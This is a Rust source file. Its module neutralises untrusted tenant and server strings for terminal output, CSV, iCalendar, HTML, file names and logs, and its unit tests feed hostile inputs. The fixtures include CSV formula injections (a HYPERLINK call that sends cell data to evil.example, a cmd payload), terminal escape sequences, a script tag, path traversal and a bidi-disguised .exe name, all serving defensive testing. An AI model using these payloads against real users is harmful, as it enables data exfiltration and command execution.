//! Strings the wizard did not write, made safe for the one place each is put.
//!
//! A tenant's own admins choose its organization name, domains, user display names and app
//! names; Microsoft's servers choose their error messages and the device-code text. All of them
//! reach the terminal, the batch CSV, the `.ics`, the HTML receipt, file names and the log. They
//! are data: none of them may move the cursor, retitle the window, add a line that looks like
//! ours, become a spreadsheet formula, end an iCalendar property, turn into markup, reverse the
//! sentence around it, or make a file name the file system refuses.
//!
//! This module is the one place that knows how, per kind of output. Writers take its results
//! (the CSV writer only takes [`CsvCell`]s), so a new output picks a function here rather than
//! inventing its own escaping.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Explicit bidirectional formatting characters (Unicode UAX #9: embeddings, overrides, isolates
/// and marks). U+202E in a tenant name reverses the rest of our sentence; none of them is ever
/// needed to show a name.
pub fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

/// Characters that end a line somewhere: in a terminal, an editor or a log viewer.
fn is_line_break(c: char) -> bool {
    matches!(
        c,
        '\n' | '\r' | '\u{0B}' | '\u{0C}' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

/// C0, DEL and C1: `char::is_control`. C1 (U+0080–U+009F) counts because some terminals read
/// U+009B as CSI, the start of an escape sequence.
fn is_control(c: char) -> bool {
    c.is_control()
}

/// Shown in place of a character that would act instead of being shown.
const REPLACEMENT: char = '\u{FFFD}';

// ---- terminal ----------------------------------------------------------------------------------

/// A value inside one of our terminal lines: line breaks and tabs become spaces (a name cannot
/// start a line of its own, such as a forged `State: Ready`), other control characters (ESC of
/// `\x1b]0;…\x07` or `\x1b[2J`, BEL, NUL, C1) and bidi controls become U+FFFD, visibly.
pub fn terminal(s: &str) -> Cow<'_, str> {
    if !s
        .chars()
        .any(|c| is_control(c) || is_bidi_control(c) || is_line_break(c))
    {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.chars()
            .map(|c| {
                if is_line_break(c) || c == '\t' {
                    ' '
                } else if is_control(c) || is_bidi_control(c) {
                    REPLACEMENT
                } else {
                    c
                }
            })
            .collect(),
    )
}

/// Everything we print on stdout (text we composed, or a JSON document), as the last guard
/// before it is printed: our own line feeds stay, every other control, line-breaking or bidi
/// character is written `\uXXXX`. Values inside text should already have gone through
/// [`terminal`] (which also keeps them on their line); this catches a value a new output forgot,
/// so it can at worst read oddly, never send an escape sequence. The `\uXXXX` form is JSON's own
/// escape, and such characters only ever stand inside a JSON string, so a JSON document stays
/// valid and means the same (serde_json leaves C1, bidi and U+2028 raw).
pub fn terminal_lines(s: &str) -> Cow<'_, str> {
    let acts = |c: char| c != '\n' && (is_control(c) || is_bidi_control(c) || is_line_break(c));
    if !s.chars().any(acts) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if acts(c) {
            // All of them are in the Basic Multilingual Plane: four hex digits suffice.
            let _ = write!(out, "\\u{:04x}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

// ---- CSV ---------------------------------------------------------------------------------------

/// The byte order mark a CSV starts with, so Excel on Windows reads it as UTF-8 ("Müller GmbH",
/// not "MÃ¼ller GmbH"). Other spreadsheet programs and CSV libraries skip it.
pub const CSV_BOM: &str = "\u{FEFF}";

/// One cell of a CSV row. The only way to put a value in the batch report's CSV.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsvCell<'a> {
    /// Free text that a tenant, a server or a person wrote: names, labels, messages. Neutralised
    /// against formulas (OWASP "CSV Injection"): a cell that would begin with `=`, `+`, `-`, `@`,
    /// TAB or CR (or their full-width forms, which some locales of Excel also take) gets a `'`
    /// in front, so a spreadsheet shows it as text instead of evaluating it. Line breaks become
    /// spaces and other control and bidi characters are dropped.
    Text(&'a str),
    /// A value that must arrive byte for byte: an ID, the client secret, a time, a number. Only
    /// quoted (RFC 4180), never changed: a secret that began with `-` must still work.
    Exact(&'a str),
}

impl CsvCell<'_> {
    /// The cell as it goes in the file: RFC 4180 quoting where it holds a comma, quote or line
    /// break.
    pub fn encode(&self) -> String {
        let value: Cow<'_, str> = match *self {
            CsvCell::Exact(s) => Cow::Borrowed(s),
            CsvCell::Text(s) => Cow::Owned(csv_text(s)),
        };
        if value.contains([',', '"', '\n', '\r']) {
            format!("\"{}\"", value.replace('"', "\"\""))
        } else {
            value.into_owned()
        }
    }
}

/// A free-text value as a spreadsheet must read it: one line, no controls, never a formula.
fn csv_text(s: &str) -> String {
    let mut out: String = s
        .chars()
        .filter_map(|c| {
            if is_line_break(c) || c == '\t' {
                Some(' ')
            } else if is_control(c) || is_bidi_control(c) {
                None
            } else {
                Some(c)
            }
        })
        .collect();
    // Spreadsheets skip leading blanks before deciding a cell is a formula; so does this.
    let first = out.chars().find(|c| !c.is_whitespace());
    if first.is_some_and(|c| "=+-@\t\r\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".contains(c)) {
        out.insert(0, '\'');
    }
    out
}

/// One CSV row, its cells encoded and joined, ending in CRLF (RFC 4180).
pub fn csv_row<'a>(cells: impl IntoIterator<Item = CsvCell<'a>>) -> String {
    let cells: Vec<String> = cells.into_iter().map(|c| c.encode()).collect();
    format!("{}\r\n", cells.join(","))
}

// ---- iCalendar ---------------------------------------------------------------------------------

/// An iCalendar TEXT value (RFC 5545, 3.3.11): backslash, semicolon and comma escaped, a line
/// break written `\n`. Everything else the grammar forbids in TEXT (the CONTROL characters: C0
/// but HTAB, and DEL), CR on its own, and bidi controls are dropped, so a name cannot end the
/// property or start a new one.
pub fn ics_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.push_str("\\\\"),
            ';' => out.push_str("\\;"),
            ',' => out.push_str("\\,"),
            '\n' => out.push_str("\\n"),
            '\r' => {
                // CRLF is one break; a lone CR (or U+2028 and kin) is one too.
                if chars.peek() != Some(&'\n') {
                    out.push_str("\\n");
                }
            }
            c if is_line_break(c) => out.push_str("\\n"),
            '\t' => out.push('\t'),
            c if is_control(c) || is_bidi_control(c) => {}
            c => out.push(c),
        }
    }
    out
}

// ---- HTML --------------------------------------------------------------------------------------

/// Text for HTML element content or a quoted attribute value: `& < > " '` escaped, bidi controls
/// and the control characters HTML does not allow dropped (tab and line feed stay).
pub fn html(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            '\t' | '\n' => out.push(c),
            c if is_control(c) || is_bidi_control(c) => {}
            c => out.push(c),
        }
    }
    out
}

/// A name inside a sentence of element content: [`html`], isolated in `<bdi>` so that a name in
/// a right-to-left script (or one that still manages to change direction) never reorders the
/// words around it. Not for attribute values or `<title>`, which cannot hold markup: use
/// [`html`] there.
pub fn html_name(s: &str) -> String {
    format!("<bdi>{}</bdi>", html(s))
}

// ---- file names --------------------------------------------------------------------------------

/// The most bytes a name from outside takes in a file name we propose: the whole name (our words,
/// the date and the extension around it) stays far below the 255 bytes file systems allow.
pub const FILE_NAME_PART_MAX_BYTES: usize = 80;

/// A name from outside as part of a file name: characters no file system takes (`<>:"/\|?*`) and
/// control characters become `_`, bidi controls are dropped (U+202E would make `…exe.html` read
/// as `…lmth.exe`), blanks and dots are trimmed from the ends, and the result is cut to
/// `max_bytes` on a character boundary. `None` when nothing is left.
pub fn file_name_part(s: &str, max_bytes: usize) -> Option<String> {
    let cleaned: String = s
        .chars()
        .filter(|c| !is_bidi_control(*c))
        .map(|c| {
            if is_control(c) || is_line_break(c) || r#"<>:"/\|?*"#.contains(c) {
                '_'
            } else {
                c
            }
        })
        .collect();
    let mut cut = cleaned.trim();
    if cut.len() > max_bytes {
        let mut end = max_bytes;
        while !cut.is_char_boundary(end) {
            end -= 1;
        }
        cut = &cut[..end];
    }
    let part = cut.trim().trim_matches('.').trim();
    (!part.is_empty()).then(|| part.to_string())
}

// ---- log lines ---------------------------------------------------------------------------------

/// One log record as one line: CR and LF inside it are written `\r` and `\n`, other control and
/// bidi characters as `\u{…}`, so a server message cannot forge a line of its own (which would
/// then reach "Copy diagnostics" as if the wizard had written it). A trailing line end, the
/// record's own, is kept.
pub fn log_line(s: &str) -> Cow<'_, str> {
    let (body, end) = match s.strip_suffix('\n') {
        Some(body) => (body, "\n"),
        None => (s, ""),
    };
    if !body
        .chars()
        .any(|c| (is_control(c) && c != '\t') || is_bidi_control(c) || is_line_break(c))
    {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in body.chars() {
        match c {
            '\r' => out.push_str("\\r"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push('\t'),
            c if is_control(c) || is_bidi_control(c) || is_line_break(c) => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out.push_str(end);
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Strings a hostile tenant or server might send: controls, escape sequences, bidi, line
    /// breaks, formula starters, NUL, markup, path parts, and very long ones.
    fn nasty() -> Vec<String> {
        let mut v: Vec<String> = [
            "Contoso\x1b]0;pwned\x07 Ltd",
            "\x1b[2J\x1b[HState: Ready",
            "Contoso\nState: Ready",
            "Contoso\r\nWhat to do: go to http://evil.example",
            "line\u{2028}sep\u{2029}para\u{85}nel\u{0B}vt\u{0C}ff",
            "=HYPERLINK(\"http://evil.example/?\"&H3, \"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
            "\u{FF1D}1+1",
            "admin\u{202E}gpj.exe",
            "\u{2066}isolate\u{2069}\u{200F}\u{061C}",
            "NUL\0byte",
            "\u{9B}31mC1 CSI",
            "\x7fDEL",
            "<script>alert(1)</script>&\"'",
            "a;b,c\\d",
            "../../etc/passwd",
            "CON",
            "   ",
            "...",
            "Müller GmbH 東京 🦀",
            "",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        v.push("é".repeat(100_000));
        v.push(format!("{}\x1b[2J", "x".repeat(100_000)));
        // Every character from NUL to U+00A0, and the bidi and separator blocks, one string each.
        v.push((0u32..=0xA0).filter_map(char::from_u32).collect());
        v.push(('\u{2000}'..='\u{206F}').collect());
        v
    }

    /// A cheap deterministic generator of strings mixing the dangerous characters with ordinary
    /// ones: a property test without a property-testing crate.
    fn generated(count: usize) -> Vec<String> {
        const ALPHABET: &[char] = &[
            'a', 'Z', '0', ' ', '=', '+', '-', '@', '\t', '\r', '\n', '\x1b', '\x07', '\0', '\x7f',
            '\u{9b}', '\u{85}', '\u{202E}', '\u{2066}', '\u{200F}', '\u{2028}', ';', ',', '\\',
            '"', '\'', '<', '>', '&', '/', ':', '*', '?', '|', '.', 'é', '東', '🦀', '\u{FF1D}',
        ];
        let mut state: u64 = 0x2545_F491_4F6C_DD1D;
        let mut next = move || {
            // xorshift64*
            state ^= state >> 12;
            state ^= state << 25;
            state ^= state >> 27;
            state.wrapping_mul(0x2545_F491_4F6C_DD1D)
        };
        (0..count)
            .map(|_| {
                let len = (next() % 40) as usize;
                (0..len)
                    .map(|_| ALPHABET[(next() % ALPHABET.len() as u64) as usize])
                    .collect()
            })
            .collect()
    }

    fn all() -> Vec<String> {
        let mut v = nasty();
        v.extend(generated(3000));
        v
    }

    fn no_controls_or_bidi(s: &str, allowed: &[char]) -> bool {
        s.chars().all(|c| {
            allowed.contains(&c) || !(is_control(c) || is_bidi_control(c) || is_line_break(c))
        })
    }

    #[test]
    fn terminal_values_are_one_line_with_nothing_that_acts() {
        for s in all() {
            let t = terminal(&s);
            assert!(no_controls_or_bidi(&t, &[]), "{s:?} -> {t:?}");
            assert_eq!(t.chars().count(), s.chars().count(), "{s:?}: one for one");
        }
        assert_eq!(terminal("Contoso Ltd"), "Contoso Ltd");
        assert!(matches!(terminal("Contoso Ltd"), Cow::Borrowed(_)));
        assert_eq!(
            terminal("Contoso\x1b]0;pwned\x07\nState: Ready"),
            "Contoso\u{FFFD}]0;pwned\u{FFFD} State: Ready"
        );
    }

    #[test]
    fn terminal_text_keeps_only_our_line_breaks() {
        for s in all() {
            let t = terminal_lines(&s);
            assert!(no_controls_or_bidi(&t, &['\n']), "{s:?} -> {t:?}");
        }
        assert_eq!(terminal_lines("a\nb\x1b[2J"), "a\nb\\u001b[2J");
        let json =
            serde_json::json!({ "name": "Contoso\u{9b}31m\u{202E}\u{2028}\x1b" }).to_string();
        let shown = terminal_lines(&json);
        assert!(no_controls_or_bidi(&shown, &[]), "{shown}");
        let back: serde_json::Value = serde_json::from_str(&shown).unwrap();
        assert_eq!(
            back["name"], "Contoso\u{9b}31m\u{202E}\u{2028}\x1b",
            "same data"
        );
    }

    /// Reads one RFC 4180 field back, as a spreadsheet would before deciding what it is.
    fn unquote(field: &str) -> String {
        match field.strip_prefix('"').and_then(|f| f.strip_suffix('"')) {
            Some(inner) => inner.replace("\"\"", "\""),
            None => field.to_string(),
        }
    }

    #[test]
    fn csv_text_cells_are_never_formulas_nor_extra_rows() {
        for s in all() {
            let field = CsvCell::Text(&s).encode();
            let value = unquote(&field);
            let first = value.chars().find(|c| !c.is_whitespace());
            assert!(
                !first.is_some_and(|c| "=+-@\t\r\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".contains(c)),
                "{s:?} -> {field:?} would be a formula"
            );
            assert!(no_controls_or_bidi(&value, &[]), "{s:?} -> {field:?}");
            if field.contains([',', '"']) {
                assert!(field.starts_with('"') && field.ends_with('"'), "{field:?}");
            }
        }
        assert_eq!(
            CsvCell::Text("=HYPERLINK(\"http://x\"&H3, \"x\")").encode(),
            "\"'=HYPERLINK(\"\"http://x\"\"&H3, \"\"x\"\")\""
        );
        assert_eq!(CsvCell::Text("Müller GmbH").encode(), "Müller GmbH");
        assert_eq!(CsvCell::Text("a\r\nb").encode(), "a  b");
    }

    #[test]
    fn csv_exact_cells_arrive_byte_for_byte() {
        for s in all() {
            let field = CsvCell::Exact(&s).encode();
            assert_eq!(unquote(&field), s, "{s:?}");
        }
        assert_eq!(CsvCell::Exact("-abc~secret").encode(), "-abc~secret");
        assert_eq!(
            csv_row([CsvCell::Exact("1"), CsvCell::Text("+x")]),
            "1,'+x\r\n"
        );
    }

    #[test]
    fn ics_text_is_one_escaped_property_value() {
        for s in all() {
            let t = ics_text(&s);
            // RFC 5545 TEXT: no CONTROL but HTAB; no unescaped ; , or line break.
            assert!(no_controls_or_bidi(&t, &['\t']), "{s:?} -> {t:?}");
            let mut chars = t.chars();
            while let Some(c) = chars.next() {
                match c {
                    '\\' => assert!(
                        matches!(chars.next(), Some('\\' | ';' | ',' | 'n')),
                        "{s:?} -> {t:?}: a lone backslash"
                    ),
                    ';' | ',' => panic!("{s:?} -> {t:?}: unescaped {c}"),
                    _ => {}
                }
            }
        }
        assert_eq!(ics_text("a,b;c\\d\ne"), "a\\,b\\;c\\\\d\\ne");
        assert_eq!(ics_text("x\r\ny\rz\0\x1b\x07"), "x\\ny\\nz");
    }

    #[test]
    fn html_text_holds_no_markup_and_no_direction_change() {
        for s in all() {
            let h = html(&s);
            assert!(!h.contains(['<', '>', '"', '\'']), "{s:?} -> {h:?}");
            assert!(
                no_controls_or_bidi(&h, &['\t', '\n', '\u{2028}', '\u{2029}']),
                "{s:?} -> {h:?}"
            );
            // Every & starts one of the five references.
            for (i, _) in h.match_indices('&') {
                let rest = &h[i..];
                assert!(
                    ["&amp;", "&lt;", "&gt;", "&quot;", "&#39;"]
                        .iter()
                        .any(|r| rest.starts_with(r)),
                    "{s:?} -> {h:?}"
                );
            }
        }
        assert_eq!(
            html_name("Contoso\u{202E} & <b>"),
            "<bdi>Contoso &amp; &lt;b&gt;</bdi>"
        );
    }

    #[test]
    fn file_name_parts_are_short_plain_and_never_empty() {
        for s in all() {
            let Some(part) = file_name_part(&s, FILE_NAME_PART_MAX_BYTES) else {
                continue;
            };
            assert!(
                part.len() <= FILE_NAME_PART_MAX_BYTES,
                "{s:?}: {}",
                part.len()
            );
            assert!(!part.is_empty());
            assert!(no_controls_or_bidi(&part, &[]), "{s:?} -> {part:?}");
            assert!(!part.contains(['<', '>', ':', '"', '/', '\\', '|', '?', '*']));
            assert!(!part.starts_with(['.', ' ']) && !part.ends_with(['.', ' ']));
        }
        assert_eq!(
            file_name_part("admin\u{202E}gpj.exe", 80).as_deref(),
            Some("admingpj.exe")
        );
        assert_eq!(file_name_part("  ...  ", 80), None);
        assert_eq!(file_name_part("a/b:c?", 80).as_deref(), Some("a_b_c_"));
        let long = file_name_part(&"é".repeat(100), 81).unwrap_or_default();
        assert_eq!(long.len(), 80, "cut on a character boundary");
    }

    #[test]
    fn log_records_stay_one_line() {
        for s in all() {
            let line = format!("{s}\n");
            let l = log_line(&line);
            assert_eq!(l.matches('\n').count(), 1, "{s:?} -> {l:?}");
            assert!(l.ends_with('\n'));
            assert!(no_controls_or_bidi(&l[..l.len() - 1], &['\t']), "{l:?}");
        }
        assert_eq!(
            log_line("WARN error: x\r\nWhat to do: y\n"),
            "WARN error: x\\r\\nWhat to do: y\n"
        );
        assert_eq!(log_line("a\x1b[2Jb"), "a\\u{1b}[2Jb");
        assert!(matches!(log_line("plain line\n"), Cow::Borrowed(_)));
    }
}
